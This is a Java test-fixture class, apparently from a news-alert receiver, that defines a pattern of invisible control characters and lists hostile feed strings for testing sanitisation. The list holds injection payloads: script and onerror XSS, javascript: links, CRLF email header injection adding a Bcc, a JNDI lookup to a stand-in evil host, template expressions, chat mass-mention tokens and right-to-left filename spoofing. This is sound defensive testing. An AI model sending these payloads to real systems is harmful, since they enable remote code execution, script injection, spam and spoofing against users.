package io.tensionwire.alerts.receiver;

import java.util.regex.Pattern;
import java.util.stream.Stream;

/** What a feed could say to be more than text at a receiver. */
public final class HostileText {

  /** Control characters but the ends of lines, marks that turn a line round, halves of characters. */
  public static final Pattern NEVER_SHOWN = Pattern.compile(
      "[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\u200b\\u200e\\u200f\\u202a-\\u202e\\u2060\\u2066-\\u2069\\ufeff]"
          + "|[\\ud800-\\udbff](?![\\udc00-\\udfff])|(?<![\\ud800-\\udbff])[\\udc00-\\udfff]");

  private HostileText() {}

  static Stream<String> all() {
    return Stream.of(
        "x\u0000\u0001\u0007\u007f\u0085 NUL and its kin",
        "\u202Egpj.txe\u202C \u2066isolated\u2069 \u200Fmarks\u200E",
        "zero\u200Bwidth\u2060s\uFEFF",
        "half \uD800 of a \uDC00 letter \uD83D",
        "\u001b[2J\u001b]0;title\u0007\u001b[31mred",
        "<!channel> <!here> <!everyone> <!subteam^S1> <@U123> <#C123> <https://evil.example|click>",
        "@everyone @here <@123456789012345678> <@&123456789012345678> <#123456789012345678> <a:wave:123>",
        "<at>all</at> <at id=\"x\">Editor</at> {{DATE(2026-11-21)}}",
        "*b* _i_ ~s~ `c` ```code``` **b** __u__ ~~s~~ ||spoiler|| > quote\n# title\n- item\n1. one",
        "[click](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example> [a]: https://evil.example",
        "https://evil.example/page www.evil.example evil.example mailto:a@evil.example",
        "javascript:alert(1) [x](javascript:alert(1)) data:text/html,x vbscript:x tg://user?id=1",
        "<script>alert(1)</script><img src=x onerror=alert(1)><a href=\"https://evil.example\">x</a><!-- --><![CDATA[x]]>",
        "</b></blockquote></p></td></table></body></html><b>bold &lt;b&gt; &#60;b&#62; &amp;lt;",
        "subject\r\nBcc: evil@evil.example\r\nContent-Type: text/html\r\n\r\n<b>x</b>\u2028\u2029",
        "=?utf-8?q?=0d=0aBcc:=20evil@evil.example?= =0D=0A.\r\n.\r\nQUIT\r\n",
        "\"},{\"type\":\"mention\",\"text\":\"\\u0000\\ud800\"} ' \" \\ / \\n \\u202e ${jndi:ldap://evil.example} #{7*7} %0d%0a",
        "@newsroom_bot /start #tag $USD +82 10 0000 0000 :wave: <tg-spoiler>x</tg-spoiler> <blockquote expandable>x");
  }
}
